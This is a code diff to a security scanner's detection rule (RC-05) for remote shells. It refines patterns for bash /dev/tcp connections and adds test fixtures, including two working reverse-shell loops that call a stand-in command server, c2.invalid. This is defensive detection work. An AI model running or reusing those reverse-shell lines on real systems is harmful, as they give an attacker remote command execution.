@@ -25,6 +25,9 @@ import { shellPrograms } from './rc-05-shell-programs.ts';
 import { commandServers } from './rc-05-command-servers.ts';
 import { joinedShells } from '../programs/joined-shells.ts';
 
+/** A connection as a numbered file; alone it only asks whether a port answers. */
+const openedConnection = seq('exec', space(1, 4), times(1, 3, digit), '<>', space(0, 3), '/dev/(tcp|udp)/');
+
 export const remoteShell: PatternRule = {
   id: 'RC-05',
   severity: 'critical',
@@ -49,7 +52,18 @@ export const remoteShell: PatternRule = {
             gap(20),
             '/dev/(tcp|udp)/',
           ),
-          seq('exec', space(1, 4), times(1, 3, digit), '<>', space(0, 3), '/dev/(tcp|udp)/'),
+          seq(
+            openedConnection,
+            gap(120),
+            oneOf(
+              seq('<&', digit),
+              seq('>&', digit),
+              '0<&',
+              '0>&',
+              word('eval'),
+              seq(oneOf('sh', 'bash'), ' -i'),
+            ),
+          ),
           seq(
             oneOf('<', '>', '<>', '>&'),
             space(0, 3),
@@ -76,6 +90,40 @@ export const remoteShell: PatternRule = {
         fenced('powershell', "$from = 'https://get.scoop.sh'", 'iex (iwr -UseBasicParsing $from).Content'),
         inFile('scripts/a.sh', 'ssh -L 8080:localhost:80 deploy@www.acme.example'),
         inFile('scripts/a.sh', 'nc -z localhost 5432 && echo up'),
+      ],
+    }),
+    row('lines of a connection that a shell runs', {
+      within: 'window',
+      sign: pattern('/dev/(tcp|udp)'),
+      match: pattern(openedConnection),
+      and: [
+        pattern(
+          oneOf(
+            seq('read', gap(30), '<&', times(1, 3, digit)),
+            seq(
+              '<&',
+              times(1, 3, digit),
+              gap(60),
+              oneOf(word('eval'), word('sh'), word('bash'), 'while read'),
+            ),
+            seq(word(oneOf('eval', 'sh', 'bash')), gap(40), '<&', times(1, 3, digit)),
+          ),
+        ),
+      ],
+      catches: [
+        inFile(
+          'scripts/a.sh',
+          'exec 5<>/dev/tcp/c2.invalid/4444',
+          'while read -r l <&5; do $l >&5 2>&5; done',
+        ),
+        inFile(
+          'scripts/b.sh',
+          'exec 9<>/dev/tcp/c2.invalid/443',
+          'cat <&9 | while read l; do $l 2>&1 >&9; done',
+        ),
+      ],
+      spares: [
+        inFile('scripts/wait.sh', 'up() { timeout 2 bash -c "exec 4<>/dev/tcp/$host/$port" 2>/dev/null; }'),
       ],
     }),
     row('netcat with a shell', {
